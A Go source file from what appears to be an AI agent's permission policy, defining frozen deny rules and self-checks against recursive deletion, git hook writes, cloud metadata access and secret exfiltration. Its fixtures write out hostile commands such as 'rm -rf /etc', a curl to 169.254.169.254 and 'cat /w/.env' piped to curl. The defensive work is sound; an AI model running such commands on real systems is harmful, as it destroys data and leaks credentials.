package policy

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"

	"countersign/backend/policy/pathclass"
	"countersign/backend/policy/shellcmd"
	"countersign/backend/policy/shellcmd/program"
	"countersign/backend/session"
	"countersign/backend/tool"
)

// hardRule is a rule that nobody can answer: no person, grant, preset or setting. The
// list is frozen: it is part of the program and of the policy version.
type hardRule struct {
	id string
	on hardCondition
	// words tell the person why; the path or host comes before them.
	words string
	// blocks must be denied by the rule, spares must not.
	blocks Facts
	spares Facts
}

type hardCondition uint8

const (
	onRootRemoval hardCondition = iota
	onSystemRemoval
	onOwnHome
	onGitControl
	onMetadataAddress
	onSecretLeaving
)

var hardRules = [...]hardRule{
	{
		id: "destructive_root_delete", on: onRootRemoval, words: "with all that lies below it. That never happens.",
		blocks: removing("/home/u"),
		spares: removing("/home/u/old"),
	},
	{
		id: "destructive_system_delete", on: onSystemRemoval, words: "with all that lies below it, and the machine with that. That never happens.",
		blocks: removing("/etc"),
		spares: removing("/etc/old.d"),
	},
	{
		id: "own_home", on: onOwnHome, words: "It is never opened to a call.",
		blocks: touching(tool.EffectWorkspaceRead, tool.AccessRead, "/home/u/.countersign/config.json"),
		spares: touching(tool.EffectWorkspaceRead, tool.AccessRead, "/home/u/.countersign/output/s/read-1.txt"),
	},
	{
		id: "git_control", on: onGitControl, words: "It is never written by a call: what stands there runs later, unasked.",
		blocks: touching(tool.EffectWorkspaceWrite, tool.AccessWrite, "/w/.git/hooks/pre-commit"),
		spares: touching(tool.EffectWorkspaceWrite, tool.AccessWrite, "/w/.githooks/pre-commit"),
	},
	{
		id: "metadata_egress", on: onMetadataAddress, words: "is an address where machines give out their own credentials. It is never reached.",
		blocks: reaching("https://169.254.169.254/latest/meta-data/"),
		spares: reaching("https://169.253.169.254/latest/meta-data/"),
	},
	{
		id: "metadata_command", on: onMetadataAddress, words: "is an address where machines give out their own credentials. It is never reached.",
		blocks: commanding(talking("curl", "169.254.169.254")),
		spares: commanding(talking("curl", "169.253.169.254")),
	},
	{
		id: "credential_egress", on: onSecretLeaving, words: "would leave this machine with the call. That never happens.",
		blocks: leaving("/w/.env"),
		spares: leaving("/w/.env.example"),
	},
	{
		id: "credential_command", on: onSecretLeaving, words: "would leave this machine with the call. That never happens.",
		blocks: sending("/w/.env"),
		spares: sending("/w/.env.example"),
	},
	{
		id: "credential_beside_key", on: onSecretLeaving, words: "would leave this machine with the call. That never happens.",
		blocks: commanding(signing("/w/k.pem"), using(tool.AccessRead, "cat", "/w/k.pem")),
		spares: commanding(signing("/w/k.pem")),
	},
}

func exampleFacts(effect tool.SideEffect) Facts {
	return Facts{
		ToolID: "example", Source: tool.SourceBuiltin, Effect: effect, Trusted: true, Origin: tool.TrustUser,
		Class:     tool.Class{SideEffect: effect, Risk: tool.RiskLow, Target: tool.TargetHost},
		Rules:     session.Rules{Preset: session.PresetFull, Profile: session.ProfileDesktop},
		Workspace: "/w", UserHome: "/home/u", OwnHome: "/home/u/.countersign", System: pathclass.Linux,
	}
}

func touching(effect tool.SideEffect, access tool.Access, path string) Facts {
	f := exampleFacts(effect)
	f.Target.Touches = []tool.Touch{{Path: tool.Path{Arg: path, Abs: path, Real: path, Zone: tool.ZoneWorkspace}, Access: access}}
	return f
}

func reaching(url string) Facts {
	f := exampleFacts(tool.EffectNetworkRead)
	f.Target.URL = url
	return f
}

func leaving(path string) Facts {
	f := touching(tool.EffectExternalWrite, tool.AccessRead, path)
	f.Target.URL = "https://example.com/"
	return f
}

// commanding is a command line that could be read.
func commanding(commands ...shellcmd.Command) Facts {
	f := exampleFacts(tool.EffectCodeExecution)
	f.Reading = &shellcmd.Reading{Parsed: true, Commands: commands}
	for i := range commands {
		c := &commands[i]
		f.Target.Command += c.Shown + "; "
		for k := range c.Uses {
			u := &c.Uses[k]
			p := tool.Path{Arg: u.Path, Abs: u.Path, Real: u.Path, Zone: tool.ZoneOutside}
			if rest, ok := strings.CutPrefix(u.Path, "/w/"); ok {
				p.Zone, p.Rel = tool.ZoneWorkspace, rest
			}
			f.Target.Touches = append(f.Target.Touches, TouchOf(i, c, u, p))
		}
	}
	return f
}

// plainCommand is one simple command of these words.
func plainCommand(words ...string) shellcmd.Command {
	c := shellcmd.Command{Of: -1, Shown: strings.Join(words, " ")}
	for _, w := range words {
		c.Words = append(c.Words, program.Word{Text: w})
	}
	return c
}

// using is a command that uses the path in its last word.
func using(access tool.Access, words ...string) shellcmd.Command {
	c := plainCommand(words...)
	c.Uses = []shellcmd.Use{{Path: words[len(words)-1], Access: access, Word: len(words) - 1}}
	return c
}

// talking is a command that speaks to the machine in its last word.
func talking(words ...string) shellcmd.Command {
	c := found(program.Finding{Effect: program.Reaches, Words: "reaches another machine"}, words...)
	c.Hosts = words[len(words)-1:]
	return c
}

// signing is a command that signs in with a key at another machine.
func signing(key string) shellcmd.Command {
	c := talking("ssh", "-i", key, "example.com")
	c.Uses = []shellcmd.Use{{Path: key, Access: tool.AccessRead, SignsIn: true, Word: 2}}
	return c
}

// found is a command with a finding.
func found(f program.Finding, words ...string) shellcmd.Command {
	c := plainCommand(words...)
	c.Findings = []program.Finding{f}
	return c
}

func removing(path string) Facts { return commanding(taking(path)) }

// taking is a command that takes a folder away with all in it.
func taking(path string) shellcmd.Command {
	c := using(tool.AccessWrite, "rm", "-rf", path)
	c.Uses[0].Tree, c.Uses[0].Removes = true, true
	return c
}

func sending(path string) Facts {
	return commanding(using(tool.AccessRead, "cat", path), talking("curl", "-d", "@-", "example.com"))
}

// hardline speaks for the first rule that the call breaks.
func hardline(v *view) voice {
	for i := range hardRules {
		if subject, hit := hardRules[i].on.broken(v); hit {
			return voice{force: denies, code: tool.CodePolicyBlocked, reason: subject + " " + hardRules[i].words}
		}
	}
	return voice{}
}

// broken reports whether the call breaks the rule, and what by.
func (c hardCondition) broken(v *view) (subject string, hit bool) {
	blocked := v.judgement.Hold == pathclass.Blocked
	git := v.judgement.Kind == pathclass.GitControl
	switch c {
	case onRootRemoval:
		if v.removesRoot != nil {
			return v.names(v.removesRoot, "would be gone"), true
		}
	case onSystemRemoval:
		if v.removesSystem != nil {
			return v.names(v.removesSystem, "would be gone"), true
		}
	case onOwnHome:
		if blocked && !git {
			return v.names(v.held, v.judgement.Words) + ".", true
		}
	case onGitControl:
		if blocked && git {
			return v.names(v.held, v.judgement.Words) + ".", true
		}
	case onMetadataAddress:
		// The copy keeps the view, and with it the facts, on the stack of Decide.
		if v.host != "" && metadataHost(strings.Clone(v.host)) {
			return tool.ShowPath(v.host), true
		}
		if v.read != nil {
			return metadataCommand(v.read)
		}
	case onSecretLeaving:
		if v.readsSecret != nil && reaches(v) {
			return v.names(v.readsSecret, "holds secrets:") + " they", true
		}
	}
	return "", false
}

// Load checks the rules that are part of the program: that every class has exactly one
// row, that the table of programs holds, that every frozen rule blocks its example and spares its near miss, and that
// every decision is the one in the reviewed matrix. A failure is a fault of ours and refuses the start.
// Nothing that it looks at changes while a program runs, so it looks once.
func Load() error { return loaded() }

var loaded = sync.OnceValue(checkRules)

func checkRules() error {
	if err := pathclass.Load(); err != nil {
		return err
	}
	if err := program.Load(); err != nil {
		return err
	}
	if err := checkRows(rows[:]); err != nil {
		return err
	}
	if err := checkHardRules(hardRules[:]); err != nil {
		return err
	}
	if MatrixText() != golden {
		return errors.New("the rules decide otherwise than the reviewed matrix says")
	}
	return nil
}

func checkRows(rows []row) error {
	effects := tool.SideEffects()
	if len(rows) != len(effects) {
		return fmt.Errorf("the matrix has %d rows for %d classes", len(rows), len(effects))
	}
	for i, r := range rows {
		if r.effect != effects[i] {
			return fmt.Errorf("row %d of the matrix is for %s, not %s", i, r.effect, effects[i])
		}
		decided := func(v voice) bool { return v.force != silent && v.reason != "" }
		if r.when == always && r.passes == "" || r.when != always && !(decided(r.strict) && decided(r.desktop)) {
			return fmt.Errorf("the matrix leaves %s open", r.effect)
		}
	}
	return nil
}

func checkHardRules(list []hardRule) error {
	for i := range list {
		r := &list[i]
		blocks, spares := look(&r.blocks), look(&r.spares)
		if _, hit := r.on.broken(&blocks); !hit {
			return fmt.Errorf("frozen rule %s does not block its example", r.id)
		}
		if _, hit := r.on.broken(&spares); hit {
			return fmt.Errorf("frozen rule %s blocks its near miss", r.id)
		}
		if slices.ContainsFunc(list[:i], func(o hardRule) bool { return o.id == r.id }) {
			return fmt.Errorf("frozen rule %s is there twice", r.id)
		}
	}
	return nil
}
